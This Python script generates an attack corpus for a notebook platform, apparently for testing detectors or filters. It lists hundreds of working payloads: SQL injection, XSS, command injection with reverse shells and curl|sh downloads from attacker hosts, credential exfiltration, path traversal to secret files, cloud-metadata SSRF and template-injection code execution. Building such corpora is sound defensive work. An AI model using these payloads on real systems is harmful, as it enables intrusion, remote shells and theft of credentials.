#!/usr/bin/env python3
"""Attack corpus for the notebooks theme (hosted data-science notebook platform).
Standard library only. Writes attacks.jsonl next to this file.
Hand-written literals per category, plus a few templated rows that only join a
hand-written theme prefix to a hand-written payload or apply one URL encoding."""
import json
import os
import random
import urllib.parse

SEED = 12202
PREFIX = "hac2"

A = {}

# ---------------------------------------------------------------- sqli (72 literals + 8 templated)
A["sqli"] = [
    ("note-union-select", "cohort_2023' UNION SELECT username, password_hash FROM users-- -"),
    ("plain-boolean", "' OR '1'='1"),
    ("plain-boolean", "1 OR 1=1"),
    ("readsql-param-union-null", "region: EU' UNION SELECT NULL,table_name,NULL FROM information_schema.tables-- "),
    ("dataset-name-stacked-mssql", "sales_q3'; EXEC xp_cmdshell 'whoami';--"),
    ("query-time-mysql", "age > 30' AND SLEEP(5)-- -"),
    ("search-time-pg", "churn'||(SELECT pg_sleep(10))||'"),
    ("number-time-pg", "42; SELECT pg_sleep(7)--"),
    ("number-time-mssql", "1; WAITFOR DELAY '0:0:8'--"),
    ("string-time-oracle", "x' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',9)-- "),
    ("string-time-sqlite", "q' AND 1=randomblob(300000000)--"),
    ("number-error-mysql", "7 AND extractvalue(1,concat(0x7e,(SELECT @@version)))"),
    ("number-error-mysql", "7 AND updatexml(null,concat(0x3a,(select user())),null)"),
    ("string-error-pg", "x' AND 1=CAST((SELECT current_user) AS int)--"),
    ("string-error-mssql", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.databases))--"),
    ("string-error-oracle", "x' AND 1=CTXSYS.DRITHSX.SN(1,(SELECT user FROM dual))--"),
    ("orderby-case-blind", "(CASE WHEN (SELECT substring(password,1,1) FROM users WHERE id=1)='a' THEN ts ELSE amount END)"),
    ("orderby-if-blind", "IF((SELECT COUNT(*) FROM admin_users)>0,revenue,region)"),
    ("orderby-error-mysql", "1,extractvalue(1,concat(0x7e,(select password from users limit 1)))"),
    ("like-search-union", "%' UNION ALL SELECT email, password FROM accounts WHERE '%'='"),
    ("multiline-note-union", "-- top products\n' UNION SELECT secret FROM vault_entries--"),
    ("tag-filter-boolean-blind", "finance' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77-- -"),
    ("tag-filter-boolean-blind", "finance' AND (SELECT 'x' FROM users WHERE username='admin' AND LENGTH(password)>8)='x"),
    ("notebook-id-stacked-pg", "1021; DROP TABLE notebooks;--"),
    ("notebook-id-stacked-pg", "1021; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/p|sh'--"),
    ("notebook-id-stacked-pg", "1; CREATE TABLE cmd_out(t text); COPY cmd_out FROM PROGRAM 'id';--"),
    ("title-stacked-mssql", "Weekly KPIs'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("title-oob-oracle", "x'||UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual))||'"),
    ("title-oob-mysql", "x' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM mysql.user LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("file-read-mysql", "0 UNION SELECT LOAD_FILE('/etc/passwd'),2,3"),
    ("file-write-mysql", "x' UNION SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/s.php'-- -"),
    ("file-read-pg", "x' UNION SELECT pg_read_file('/etc/passwd',0,2000)--"),
    ("union-sqlite-master", "' UNION SELECT name, sql FROM sqlite_master--"),
    ("union-oracle-dual", "' UNION SELECT username, NULL FROM all_users WHERE ROWNUM<50--"),
    ("union-mssql-sysobjects", "' UNION SELECT name, NULL FROM sysobjects WHERE xtype='U'--"),
    ("comment-as-space", "'/**/UNION/**/SELECT/**/user,password/**/FROM/**/mysql.user#"),
    ("mysql-versioned-comment", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2,group_concat(table_name) FROM information_schema.tables"),
    ("case-mixing", "x' uNiOn SeLeCt NuLl, CuRrEnT_UsEr--"),
    ("nested-keyword", "x' UNIUNIONON SELSELECTECT 1,2-- -"),
    ("hex-literal-mysql", "1 UNION SELECT 1,0x61646d696e,3 FROM users WHERE username=0x61646d696e"),
    ("char-concat-mssql", "1; EXEC(CHAR(120)+CHAR(112)+CHAR(95)+CHAR(99)+CHAR(109)+CHAR(100)+CHAR(115)+CHAR(104)+CHAR(101)+CHAR(108)+CHAR(108)+' ''dir''')--"),
    ("chr-concat-pg", "x' UNION SELECT chr(112)||chr(97)||chr(115)||chr(115), null--"),
    ("plain-urlencode", "%27%20OR%201%3D1--%20"),
    ("query-param+urlencode", "region=EU%27%20UNION%20SELECT%20password%2Cnull%20FROM%20users--"),
    ("double-urlencode", "%2527%2520OR%25201%253D1%2523"),
    ("fullwidth-quote", "x＇ OR ＇1＇=＇1"),
    ("unicode-escape-json", "x\\u0027 OR 1=1--"),
    ("backslash-escape-mysql", "\\' OR 1=1-- -"),
    ("number-tautology", "0 OR 2>1"),
    ("number-or-true", "-1 OR true"),
    ("mysql-hash-comment", "admin'#"),
    ("login-bypass", "admin' --"),
    ("login-bypass-parens", "') OR ('a'='a"),
    ("where-double-quote", "\" OR \"\"=\""),
    ("having-error", "1' GROUP BY 1 HAVING 1=1--"),
    ("orderby-enum", "1' ORDER BY 9-- -"),
    ("limit-procedure-mysql", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,version())),1)"),
    ("readsql-fstring-break", "2024-01-01') OR 1=1 UNION SELECT NULL, api_token FROM workspace_secrets--"),
    ("sql-magic-param-union", "owner=me' UNION SELECT id, token, 3 FROM service_accounts-- -"),
    ("dfquery-param-sqlite", "'; ATTACH DATABASE '/var/www/shell.php' AS pwn; CREATE TABLE pwn.x (d text); INSERT INTO pwn.x VALUES ('<?php system($_GET[0]);?>');--"),
    ("gtid-error-mysql", "x' AND GTID_SUBSET(CONCAT(0x7e,(SELECT user())),1)-- -"),
    ("sort-column-subselect", "(SELECT 1 FROM (SELECT SLEEP(6))a)"),
    ("insert-value-subselect", "title', (SELECT password FROM users WHERE id=1))-- -"),
    ("update-field-injection", "done', role='admin' WHERE username='me'-- -"),
    ("search-boolean-pg", "churn' AND (SELECT count(*) FROM pg_shadow) > 0--"),
    ("snowflake-udf-union", "x' UNION SELECT CURRENT_ACCOUNT(), CURRENT_ROLE()--"),
    ("bigquery-union", "x' UNION ALL SELECT table_name, '' FROM `proj.dataset.INFORMATION_SCHEMA.TABLES`--"),
    ("oracle-xmltype-error", "x' AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual)||CHR(62))) FROM dual)--"),
    ("mssql-openrowset", "1; SELECT * FROM OPENROWSET('SQLOLEDB','server=203.0.113.9;uid=sa;pwd=x','select 1')--"),
    ("pg-dblink-oob", "1; SELECT dblink_connect('host=198.51.100.7 user=x password=x dbname=x')--"),
    ("clickhouse-url-oob", "x' UNION ALL SELECT * FROM url('http://attacker.example/x', CSV, 'a String')--"),
    ("duckdb-read-file", "x' UNION SELECT content, NULL FROM read_text('/etc/passwd')--"),
]
SQLI_PREFIX = ["dataset: ", "filter region = ", "cohort=", "search: ", "experiment name: ", "tag filter: "]
SQLI_TPL = [
    ("union-select", "x' UNION SELECT user, password FROM mysql.user-- -"),
    ("boolean-blind", "x' AND 1=(SELECT 1 FROM users WHERE username='admin')-- -"),
    ("time-pg", "x' || pg_sleep(8) || '"),
    ("time-mysql", "x' OR SLEEP(8)#"),
]

# ---------------------------------------------------------------- xss (70 literals + 8 templated)
A["xss"] = [
    ("markdown-cell-script", "## Results\n<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("chart-title-img-onerror", "Revenue by region<img src=x onerror=alert(1)>"),
    ("chart-title-svg-onload", "MAU 2024 <svg onload=alert(document.cookie)>"),
    ("comment-iframe-js", "see output <iframe src=\"javascript:alert(origin)\"></iframe>"),
    ("markdown-link-js", "[open the report](javascript:alert(document.cookie))"),
    ("markdown-link-js-entities", "[docs](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))"),
    ("markdown-image-onerror", "![plot](x\" onerror=\"alert(1))"),
    ("attr-breakout-double", "\" autofocus onfocus=\"alert(1)"),
    ("attr-breakout-single", "' onmouseover='fetch(`//attacker.example/`+localStorage.token)"),
    ("attr-breakout-tag", "\"><script src=https://attacker.example/x.js></script>"),
    ("latex-katex-href", "$\\href{javascript:alert(1)}{click for proof}$"),
    ("latex-adjacent-html", "$x$<img src=x onerror=alert(1)>$y$"),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>params</summary></details>"),
    ("body-onload", "<body onload=alert('nb')>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>kpi</marquee>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click</text></a></svg>"),
    ("svg-script-cdata", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("math-maction", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"),
    ("object-data-uri", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>"),
    ("embed-src-js", "<embed src=javascript:alert(1)>"),
    ("form-action-js", "<form action=javascript:alert(1)><button>Re-run</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert(1) form=f>Export</button><form id=f>"),
    ("meta-refresh-js", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("link-import-style", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("style-expression-ie", "<div style=\"width:expression(alert(1))\">"),
    ("case-mixing", "<ScRiPt>alert(1)</sCrIpT>"),
    ("tag-split-newline", "<img\nsrc=x\nonerror\n=\nalert(1)>"),
    ("slash-separator", "<svg/onload=alert(1)>"),
    ("no-parens-backtick", "<img src=x onerror=alert`1`>"),
    ("no-parens-throw", "<img src=x onerror=\"window.onerror=alert;throw 1\">"),
    ("eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("fromcharcode", "<img src=x onerror=alert(String.fromCharCode(88,83,83))>"),
    ("unicode-escape-js", "<img src=x onerror=\\u0061lert(1)>"),
    ("hex-entity-handler", "<a href=\"#\" onclick=\"&#x61;&#x6c;&#x65;&#x72;&#x74;&#x28;&#x31;&#x29;\">cell 4</a>"),
    ("entity-js-scheme", "<a href=\"&#x6A;avascript&colon;alert(1)\">open notebook</a>"),
    ("tab-in-scheme", "<a href=\"java&#9;script:alert(1)\">x</a>"),
    ("plain+urlencode", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("query-param+urlencode", "title=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    ("double-urlencode", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("percent-u", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
    ("json-unicode-escape", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("html-entity-encoded-tag", "&lt;img src=x onerror=alert(1)&gt;"),
    ("textarea-breakout", "</textarea><script>alert(1)</script>"),
    ("title-breakout", "</title><svg onload=alert(1)>"),
    ("style-breakout", "</style><img src=x onerror=alert(1)>"),
    ("script-string-breakout", "';alert(document.cookie);//"),
    ("script-string-breakout", "\";fetch('//attacker.example/?k='+document.cookie);//"),
    ("script-tag-close-in-json", "</script><script>alert(1)</script>"),
    ("template-literal-breakout", "${alert(document.domain)}"),
    ("angularjs-csti", "{{constructor.constructor('alert(1)')()}}"),
    ("angularjs-csti-sandbox", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}"),
    ("vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("dom-clobber-id", "<form id=nbConfig><input name=apiBase value=//attacker.example></form>"),
    ("noscript-mutation", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("svg-foreignobject", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    ("iframe-srcdoc", "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"),
    ("table-cell-in-md", "| metric | value |\n|---|---|\n| auc | <img src=x onerror=alert(1)> |"),
    ("widget-html-output", "IPython.display.HTML('<img src=x onerror=fetch(\"//attacker.example/\"+document.cookie)>')"),
    ("comment-mention-svg", "@data-team pls check <svg><set attributeName=onmouseover to=alert(1) /></svg>"),
    ("xlink-href-svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>chart</text></a></svg>"),
    ("onpointer-event", "<div onpointerenter=alert(1) style=position:fixed;inset:0>"),
    ("css-animation-event", "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>"),
    ("vbscript-legacy", "<a href=\"vbscript:msgbox(1)\">legacy</a>"),
]
XSS_PREFIX = ["Chart title: ", "## Summary\n", "Comment on cell 7: ", "dataset description: ", "Notebook name: ", "axis label = "]
XSS_TPL = [
    ("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
    ("svg-onload", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("script-src", "<script src=//attacker.example/nb.js></script>"),
    ("iframe-js", "<iframe src=javascript:alert(1)>"),
]

# ---------------------------------------------------------------- cmdi (62 literals + 8 templated)
A["cmdi"] = [
    ("pip-package-semicolon", "pandas==2.2.1; curl http://attacker.example/i.sh | sh"),
    ("pip-package-and", "numpy && wget -qO- http://203.0.113.5/x | bash"),
    ("pip-package-subshell", "torch$(id)"),
    ("pip-package-backtick", "scikit-learn`whoami`"),
    ("pip-arg-index-url", "--index-url http://attacker.example/simple/ pandas"),
    ("pip-arg-extra-index", "requests --extra-index-url=https://attacker.example/pypi"),
    ("pip-arg-requirement-file", "-r /etc/shadow"),
    ("pip-arg-git-url", "git+https://attacker.example/evil-setup.git#egg=pandas"),
    ("plain-semicolon", "; cat /etc/passwd"),
    ("plain-pipe", "| id"),
    ("plain-or", "|| uname -a"),
    ("filename-newline", "report.csv\nid"),
    ("filename-subshell", "data_$(curl -s attacker.example/k|sh).csv"),
    ("filename-backtick", "train_`nc 198.51.100.4 4444 -e /bin/sh`.parquet"),
    ("cron-line-append", "0 6 * * * papermill daily.ipynb out.ipynb; bash -i >& /dev/tcp/203.0.113.7/443 0>&1"),
    ("cron-param-injection", "2024-06-01 -p x $(rm -rf ~/work)"),
    ("papermill-param", "run_date'; python -c 'import os;os.system(\"id\")' #"),
    ("unzip-target-and", "archive.zip -d /tmp && chmod +x /tmp/x && /tmp/x"),
    ("git-clone-upload-pack", "--upload-pack=touch${IFS}/tmp/pwned https://github.com/example-org/repo.git"),
    ("git-clone-ext-transport", "ext::sh -c touch% /tmp/pwned"),
    ("git-config-injection", "-c core.sshCommand='sh -c id' clone ssh://git@attacker.example/r"),
    ("tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/run.sh"),
    ("find-exec", "-name '*.csv' -exec sh -c 'curl attacker.example/$(whoami)' \\;"),
    ("curl-output-arg", "-o /home/jovyan/.bashrc http://attacker.example/rc"),
    ("curl-config-read", "-K /proc/self/environ http://attacker.example/"),
    ("wget-post-file", "--post-file=/home/jovyan/.aws/credentials http://attacker.example/c"),
    ("rsync-e-arg", "-e 'sh -c id' x:/data ./data"),
    ("ssh-proxycommand", "-oProxyCommand=curl${IFS}attacker.example/s|sh dummy"),
    ("awk-system", "'BEGIN{system(\"id\")}'"),
    ("sed-exec-gnu", "1e id"),
    ("ifs-space-bypass", ";cat${IFS}/etc/passwd"),
    ("brace-expansion", ";{cat,/etc/passwd}"),
    ("quote-insertion", ";w'h'o\"am\"i"),
    ("backslash-insertion", "|c\\at /et\\c/pas\\swd"),
    ("var-concat", ";a=ca;b=t;$a$b /etc/hostname"),
    ("glob-path", ";/???/??t /???/p??s??"),
    ("base64-decode-pipe", "x; echo Y3VybCBodHRwOi8vYXR0YWNrZXIuZXhhbXBsZS94fHNo | base64 -d | sh"),
    ("hex-printf", "; $(printf '\\x69\\x64')"),
    ("newline+urlencode", "data.csv%0aid"),
    ("semicolon+urlencode", "model.pkl%3B%20curl%20attacker.example%2Fs%20%7C%20sh"),
    ("double-urlencode", "x%253Bcat%2520%252Fetc%252Fpasswd"),
    ("bash-magic-cell", "%%bash\nexport X=1\nbash -c 'exec bash -i &>/dev/tcp/198.51.100.12/9001 <&1'"),
    ("bang-line-python", "!python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.21\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("env-value-subshell", "DATA_DIR=/data/$(cat /var/run/secrets/kubernetes.io/serviceaccount/token | curl -d @- attacker.example)"),
    ("ld-preload-env", "LD_PRELOAD=/tmp/evil.so"),
    ("bash-env-startup", "BASH_ENV=$(id>/tmp/o)"),
    ("shellshock-header", "() { :;}; /bin/bash -c 'curl attacker.example/ss'"),
    ("perl-oneliner", "; perl -e 'system(\"id\")'"),
    ("nc-reverse", "&& nc -e /bin/sh 198.51.100.33 1337"),
    ("mkfifo-reverse", "; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.40 9000 >/tmp/f"),
    ("windows-ampersand", "report.xlsx & type C:\\Windows\\win.ini"),
    ("windows-pipe-cmd", "| cmd /c whoami"),
    ("windows-caret-obfuscation", "& w^h^o^a^m^i"),
    ("windows-env-substring", "& %COMSPEC:~-7,3% /c dir"),
    ("powershell-iex", "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/p.ps1')\""),
    ("powershell-encoded", "& powershell -enc dwBoAG8AYQBtAGkA"),
    ("powershell-subexpr", "$(Invoke-WebRequest -Uri http://attacker.example/x -Method POST -Body (Get-Content $env:USERPROFILE\\.ssh\\id_rsa))"),
    ("certutil-download", "& certutil -urlcache -split -f http://attacker.example/a.exe %TEMP%\\a.exe"),
    ("zip-arg-testcommand", "-P x -T -TT 'sh -c id' out.zip data/"),
    ("conda-env-name", "ds-2024; curl -fsSL attacker.example/c | bash"),
    ("psql-arg-shell-escape", "-c '\\! id' analytics"),
    ("tar-to-command", "--to-command='sh -c id' -xf data.tar"),
]
CMDI_PREFIX = ["!pip install ", "output file: ", "git repo: ", "cron: 0 3 * * * ", "kernel image tag: ", "!unzip "]
CMDI_TPL = [
    ("semicolon-id", "x; id"),
    ("subshell-curl", "x$(curl -s attacker.example/s|sh)"),
    ("pipe-revshell", "x | bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ("backtick-wget", "x`wget -q attacker.example/b -O /tmp/b`"),
]

# ---------------------------------------------------------------- traversal (44 literals + 6 templated)
A["traversal"] = [
    ("plain-dotdot", "../../../../etc/passwd"),
    ("dataset-path-dotdot", "data/raw/../../../../../etc/shadow"),
    ("read-csv-dotdot", "pd.read_csv('../../../../proc/self/environ')"),
    ("notebook-path-dotdot", "/notebooks/shared/../../../home/jovyan/.ssh/id_rsa"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("aws-credentials", "../../.aws/credentials"),
    ("jupyter-config", "../../../home/jovyan/.jupyter/jupyter_server_config.json"),
    ("proc-cmdline", "../../../../../proc/1/cmdline"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-proc", "/proc/self/cwd/config/secrets.yaml"),
    ("file-scheme", "file:///etc/passwd"),
    ("urlencode", "..%2F..%2F..%2F..%2Fetc%2Fpasswd"),
    ("urlencode-dots", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("urlencode-full", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("double-urlencode", "..%252f..%252f..%252fetc%252fpasswd"),
    ("double-urlencode-dots", "%252e%252e%252f%252e%252e%252fetc%252fshadow"),
    ("overlong-utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-utf8-3byte", "%e0%80%ae%e0%80%ae/%e0%80%ae%e0%80%ae/etc/passwd"),
    ("overlong-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("percent-u", "..%u002f..%u002f..%u002fetc%u002fpasswd"),
    ("percent-u-dots", "%u002e%u002e/%u002e%u002e/etc/passwd"),
    ("fullwidth-slash", "..／..／..／etc／passwd"),
    ("nested-dotdot-strip", "....//....//....//etc/passwd"),
    ("nested-dotdot-backslash", "....\\....\\....\\windows\\win.ini"),
    ("dotdot-semicolon-tomcat", "/static/..;/..;/WEB-INF/web.xml"),
    ("null-byte-ext", "../../../../etc/passwd%00.csv"),
    ("null-byte-literal-ext", "../../../etc/passwd\u0000.parquet"),
    ("windows-backslash", "..\\..\\..\\..\\windows\\win.ini"),
    ("windows-absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("windows-unc", "\\\\attacker.example\\share\\x.csv"),
    ("windows-mixed-slashes", "..\\../..\\../Windows/system.ini"),
    ("windows-urlencode-backslash", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("windows-unattend", "..\\..\\..\\Windows\\Panther\\Unattend.xml"),
    ("dot-segments-extra", "./.././.././../etc/./passwd"),
    ("trailing-dotdot-encoded-slash", "exports/..%2f..%2f..%2froot/.bash_history"),
    ("zip-entry-name", "../../../../home/jovyan/.bashrc"),
    ("zip-entry-cron", "../../../../etc/cron.d/nb-update"),
    ("upload-filename-dotdot", "filename=\"../../../opt/conda/lib/python3.11/site-packages/sitecustomize.py\""),
    ("export-dest-dotdot", "out/../../../../../var/www/html/shell.php"),
    ("git-dir", "../../.git/config"),
    ("env-file", "../../../../app/.env"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("jar-scheme", "jar:file:///opt/app/lib/app.jar!/application.properties"),
    ("dotdot-with-theme-path", "s3_prefix=team-a/../../../etc/ssl/private/server.key"),
]
TRAV_PREFIX = ["data/raw/", "notebooks/shared/", "exports/", "uploads/tmp/", "path: datasets/", "read_parquet: cache/"]
TRAV_TPL = [
    ("dotdot-passwd", "../../../../../../etc/passwd"),
    ("dotdot-ssh", "../../../../root/.ssh/id_rsa"),
    ("dotdot-win", "..\\..\\..\\..\\..\\windows\\win.ini"),
]

# ---------------------------------------------------------------- ssrf (44 literals + 6 templated)
A["ssrf"] = [
    ("import-url-aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("import-url-aws-imdsv1-userdata", "http://169.254.169.254/latest/user-data"),
    ("gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("gcp-metadata-v1beta", "http://metadata.google.internal/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json"),
    ("azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("alibaba-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("oracle-metadata", "http://192.0.0.192/latest/meta-data/"),
    ("k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("kubelet", "https://10.0.0.1:10250/pods"),
    ("docker-api", "http://127.0.0.1:2375/containers/json"),
    ("jupyter-api-local", "http://localhost:8888/api/kernels"),
    ("jupyter-api-token", "http://127.0.0.1:8888/api/contents/?token="),
    ("consul-api", "http://consul.service.internal:8500/v1/kv/?recurse"),
    ("elasticsearch", "http://10.1.2.3:9200/_cat/indices"),
    ("redis-gopher", "gopher://127.0.0.1:6379/_CONFIG%20SET%20dir%20%2Ftmp%0D%0ASAVE%0D%0A"),
    ("redis-dict", "dict://127.0.0.1:6379/info"),
    ("memcached-gopher", "gopher://localhost:11211/_stats%0d%0a"),
    ("file-scheme", "file:///proc/self/environ"),
    ("ftp-internal", "ftp://192.168.0.10/backup/db.sql"),
    ("ldap-scheme", "ldap://10.0.0.5:389/dc=corp,dc=internal"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("dotted-hex-ip", "http://0xa9.0xfe.0xa9.0xfe/latest/"),
    ("short-ip", "http://127.1:8888/api/sessions"),
    ("zero-ip", "http://0.0.0.0:8080/admin"),
    ("ipv6-loopback", "http://[::1]:8888/api/terminals"),
    ("ipv6-mapped", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("userinfo-confusion", "https://data.example.com@169.254.169.254/latest/meta-data/"),
    ("fragment-confusion", "http://127.0.0.1:6379#@datasets.example.com/iris.csv"),
    ("backslash-confusion", "http://127.0.0.1:8888\\@data.example.com/api/kernels"),
    ("dns-rebind-name", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("attacker-dns-to-internal", "http://internal.attacker.example:8500/v1/agent/self"),
    ("circled-digits", "http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/latest/meta-data/"),
    ("fullwidth-dots", "http://169。254。169。254/latest/meta-data/"),
    ("urlencoded-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("read-csv-url", "pd.read_csv('http://169.254.169.254/latest/meta-data/iam/security-credentials/nb-role')"),
    ("read-json-url", "pd.read_json(\"http://10.0.0.12:8080/actuator/env\")"),
    ("webhook-url-internal", "webhook: http://localhost:9090/-/quit"),
    ("dataset-import-rfc1918", "Import from URL: http://172.16.5.20/admin/export?format=csv"),
    ("git-remote-internal", "https://gitlab.internal.corp/infra/secrets.git"),
    ("jar-url-remote", "jar:http://attacker.example/x.jar!/"),
]
SSRF_PREFIX = ["Import dataset from URL: ", "webhook_url=", "source_url: ", "remote kernel gateway: ", "avatar_url: ", "fetch: "]
SSRF_TPL = [
    ("aws-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("localhost-admin", "http://127.0.0.1:8080/admin"),
    ("decimal-ip", "http://2130706433:8888/api/kernels"),
]

# ---------------------------------------------------------------- code (72 literals + 8 templated)
A["code"] = [
    ("ssti-jinja2-probe", "Report for {{ 7*'7' }}"),
    ("ssti-jinja2-rce", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja2-cycler", "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja2-subclasses", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja2-attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja2-config", "Chart: {{ config.items() }}"),
    ("ssti-jinja2-statement", "{% for c in ().__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja2-lipsum", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("ssti-twig-filter", "{{ ['id']|filter('system') }}"),
    ("ssti-twig-map", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-twig-env", "{{ _self.env.registerUndefinedFilterCallback('exec') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-freemarker-execute", "<#assign ex='freemarker.template.utility.Execute'?new()>${ ex('id') }"),
    ("ssti-freemarker-api", "${ object?api.class.getResource('/').getContent() }"),
    ("ssti-velocity", "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$r"),
    ("ssti-velocity-classloader", "#set($s='')#set($c=$s.getClass().forName('java.lang.Runtime'))$c.getRuntime().exec('whoami')"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb-system", "<%= system('cat /etc/passwd') %>"),
    ("ssti-slim-ruby", "#{ File.read('/etc/passwd') }"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty-php", "{php}echo shell_exec('id');{/php}"),
    ("ssti-mako", "<% import os; x=os.popen('id').read() %>${x}"),
    ("ssti-mako-expr", "${ __import__('subprocess').check_output('id', shell=True) }"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-django-debug", "{{ settings.SECRET_KEY }}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{function(){return global.process.mainModule.require('child_process').execSync('id')}()}"),
    ("ssti-nunjucks", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
